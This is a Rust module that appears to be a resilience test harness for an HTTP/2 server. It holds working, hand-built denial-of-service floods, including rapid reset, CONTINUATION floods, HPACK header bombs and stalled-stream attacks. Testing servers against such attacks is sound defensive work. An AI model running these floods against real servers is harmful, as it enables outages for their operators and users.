//! Floods over HTTP/2, from frames made by hand: no client library would send them.

use std::{
    net::{SocketAddr, TcpStream},
    time::{Duration, Instant},
};

use crate::{
    LONGEST,
    attack::{drink, push},
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// One frame.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A field without indexing (RFC 7541, 6.2.2), names and values below 127 bytes.
fn field(name: &str, value: &str) -> Vec<u8> {
    let (name_length, value_length) = (u8::try_from(name.len()).unwrap(), u8::try_from(value.len()).unwrap());
    [&[0, name_length], name.as_bytes(), &[value_length], value.as_bytes()].concat()
}

/// GET over http for host `a`.
fn get(path: &str) -> Vec<u8> {
    [&[0x82, 0x86][..], &field(":path", path), &field(":authority", "a")].concat()
}

/// A connection that has said hello with these settings.
fn hello(address: SocketAddr, settings: &[(u16, u32)]) -> TcpStream {
    let mut stream = TcpStream::connect(address).unwrap();
    stream.set_write_timeout(Some(Duration::from_millis(100))).unwrap();
    stream.set_read_timeout(Some(Duration::from_millis(10))).unwrap();
    let settings: Vec<u8> =
        settings.iter().flat_map(|(id, value)| [&id.to_be_bytes()[..], &value.to_be_bytes()].concat()).collect();
    push(&mut stream, PREFACE);
    push(&mut stream, &frame(SETTINGS, 0, 0, &settings));
    push(&mut stream, &frame(SETTINGS, 1, 0, &[]));
    stream
}

/// Sends what `next` makes, a hundred at a time, for `count` times or until the server ends it.
fn flood(address: SocketAddr, count: u32, mut next: impl FnMut(u32) -> Vec<u8>) {
    let mut stream = hello(address, &[]);
    let started = Instant::now();
    for round in 0..count / 100 {
        let bytes: Vec<u8> = (0..100).flat_map(|index| next(round * 100 + index)).collect();
        if !push(&mut stream, &bytes) || started.elapsed() > LONGEST {
            break;
        }
        if round % 10 == 0 {
            drink(&mut stream);
        }
    }
}

fn odd(index: u32) -> u32 {
    index * 2 + 1
}

pub fn rapid_reset(address: SocketAddr) {
    let headers = get("/wait/50");
    flood(address, 50_000, |index| {
        let open = frame(HEADERS, END_HEADERS | END_STREAM, odd(index), &headers);
        [open, frame(RST_STREAM, 0, odd(index), &8_u32.to_be_bytes())].concat()
    });
}

pub fn provoked_resets(address: SocketAddr) {
    let headers = get("/wait/50");
    flood(address, 50_000, |index| {
        let open = frame(HEADERS, END_HEADERS | END_STREAM, odd(index), &headers);
        [open, frame(WINDOW_UPDATE, 0, odd(index), &0_u32.to_be_bytes())].concat()
    });
}

pub fn continuation(address: SocketAddr) {
    let headers = field("x-a", &"b".repeat(100)).repeat(10);
    flood(address, 50_000, |index| match index {
        0 => frame(HEADERS, 0, 1, &get("/x")),
        _ => frame(CONTINUATION, 0, 1, &headers),
    });
}

pub fn empty_continuation(address: SocketAddr) {
    flood(address, 100_000, |index| match index {
        0 => frame(HEADERS, 0, 1, &get("/x")),
        _ => frame(CONTINUATION, 0, 1, &[]),
    });
}

pub fn ping(address: SocketAddr) {
    flood(address, 100_000, |_| frame(PING, 0, 0, &[0; 8]));
}

pub fn settings(address: SocketAddr) {
    flood(address, 100_000, |_| frame(SETTINGS, 0, 0, &[]));
}

pub fn window_flapping(address: SocketAddr) {
    flood(address, 100_000, |index| frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, u8::try_from(index % 2).unwrap()]));
}

pub fn priority(address: SocketAddr) {
    flood(address, 100_000, |index| frame(PRIORITY, 0, odd(index), &[0, 0, 0, 0, 1]));
}

pub fn unknown(address: SocketAddr) {
    flood(address, 100_000, |_| frame(0xee, 0, 0, &[0; 20]));
}

fn posting(address: SocketAddr, count: u32, data: &[u8]) {
    let headers = [&[0x83, 0x86][..], &field(":path", "/x"), &field(":authority", "a")].concat();
    flood(address, count, |index| match index {
        0 => frame(HEADERS, END_HEADERS, 1, &headers),
        _ => frame(DATA, 0, 1, data),
    });
}

pub fn empty_data(address: SocketAddr) {
    posting(address, 100_000, &[]);
}

pub fn tiny_data(address: SocketAddr) {
    posting(address, 60_000, b"x");
}

pub fn tiny_windows(address: SocketAddr) {
    flood(address, 100_000, |_| frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()));
}

/// One large field is put into the table once and named by one byte thousands of times.
pub fn header_bomb(address: SocketAddr) {
    let large = "b".repeat(4000);
    let mut first = get("/x");
    first.extend_from_slice(&[0x40, 3]);
    first.extend_from_slice(b"x-a");
    first.extend_from_slice(&[0x7f, 0xa1, 0x1e]);
    first.extend_from_slice(large.as_bytes());
    let bomb = [get("/wait/1000"), vec![0xbe; 16_000]].concat();
    flood(address, 2000, |index| match index {
        0 => frame(HEADERS, END_HEADERS | END_STREAM, 1, &first),
        _ => frame(HEADERS, END_HEADERS | END_STREAM, odd(index), &bomb),
    });
}

pub fn large_lists(address: SocketAddr) {
    let headers = [get("/x"), field("x-a", &"b".repeat(100)).repeat(140)].concat();
    flood(address, 2000, |index| frame(HEADERS, END_HEADERS | END_STREAM, odd(index), &headers));
}

pub fn many_streams(address: SocketAddr) {
    let headers = get("/wait/300");
    flood(address, 1000, |index| frame(HEADERS, END_HEADERS | END_STREAM, odd(index), &headers));
    std::thread::sleep(Duration::from_millis(200));
}

/// Ten connections, a hundred streams each, with room for 64 KiB, and nobody reads.
pub fn stalled_streams(address: SocketAddr) {
    stall(address, &[]);
}

/// The same without room for a byte.
pub fn no_window(address: SocketAddr) {
    stall(address, &[(4, 0)]);
}

fn stall(address: SocketAddr, settings: &[(u16, u32)]) {
    let headers = get("/big/1024");
    let mut crowd: Vec<TcpStream> = (0..10).map(|_| hello(address, settings)).collect();
    for stream in &mut crowd {
        let streams: Vec<u8> =
            (0..100).flat_map(|index| frame(HEADERS, END_HEADERS | END_STREAM, odd(index), &headers)).collect();
        push(stream, &streams);
    }
    std::thread::sleep(Duration::from_secs(2));
}

/// A field block that never ends, a byte in each frame: slow rather than many.
pub fn dripping_continuation(address: SocketAddr) {
    let mut crowd: Vec<TcpStream> = (0..200).map(|_| hello(address, &[])).collect();
    for stream in &mut crowd {
        push(stream, &frame(HEADERS, 0, 1, &get("/x")));
    }
    for _ in 0..40 {
        crowd.retain_mut(|stream| push(stream, &frame(CONTINUATION, 0, 1, &[0x82])));
        std::thread::sleep(Duration::from_millis(20));
    }
}

pub fn silence(address: SocketAddr) {
    let crowd: Vec<TcpStream> = (0..600).map(|_| hello(address, &[])).collect();
    std::thread::sleep(Duration::from_secs(1));
    drop(crowd);
}

/// Thousands of `cookie` fields of nothing, which are one field to some counters.
pub fn cookie_crumbs(address: SocketAddr) {
    let crumbs = [get("/wait/500"), vec![0x60, 0], vec![0xbe; 12_000]].concat();
    flood(address, 2000, |index| frame(HEADERS, END_HEADERS | END_STREAM, odd(index), &crumbs));
}

/// The table shrinks and grows with every request.
pub fn table_flapping(address: SocketAddr) {
    let headers = [&[0x20, 0x3f, 0xe1, 0x1f][..], &get("/x")].concat();
    flood(address, 20_000, |index| frame(HEADERS, END_HEADERS | END_STREAM, odd(index), &headers));
}

pub fn unacknowledged(address: SocketAddr) {
    let mut crowd: Vec<TcpStream> = (0..200)
        .map(|_| {
            let mut stream = TcpStream::connect(address).unwrap();
            stream.set_write_timeout(Some(Duration::from_millis(100))).unwrap();
            push(&mut stream, PREFACE);
            push(&mut stream, &frame(SETTINGS, 0, 0, &[]));
            stream
        })
        .collect();
    for index in 0..100 {
        crowd.retain_mut(|stream| push(stream, &frame(HEADERS, END_HEADERS | END_STREAM, odd(index), &get("/x"))));
    }
}

/// Ten connections, a hundred streams each, every window filled and never an end.
pub fn held_uploads(address: SocketAddr) {
    let headers = [&[0x83, 0x86][..], &field(":path", "/x"), &field(":authority", "a")].concat();
    let mut crowd: Vec<TcpStream> = (0..10).map(|_| hello(address, &[])).collect();
    for stream in &mut crowd {
        for index in 0..100 {
            let open = frame(HEADERS, END_HEADERS, odd(index), &headers);
            let data = frame(DATA, 0, odd(index), &vec![b'x'; 16 << 10]).repeat(4);
            push(stream, &[open, data].concat());
        }
        drink(stream);
    }
    std::thread::sleep(Duration::from_secs(1));
}

/// Large answers, and room for one byte more each time.
pub fn byte_windows(address: SocketAddr) {
    let mut stream = hello(address, &[(4, 0)]);
    let headers = get("/big/1024");
    for index in 0..100 {
        push(&mut stream, &frame(HEADERS, END_HEADERS | END_STREAM, odd(index), &headers));
    }
    for round in 0..200 {
        let stream_of_round = odd(round % 100);
        if !push(&mut stream, &frame(WINDOW_UPDATE, 0, stream_of_round, &1_u32.to_be_bytes())) {
            break;
        }
        drink(&mut stream);
    }
}
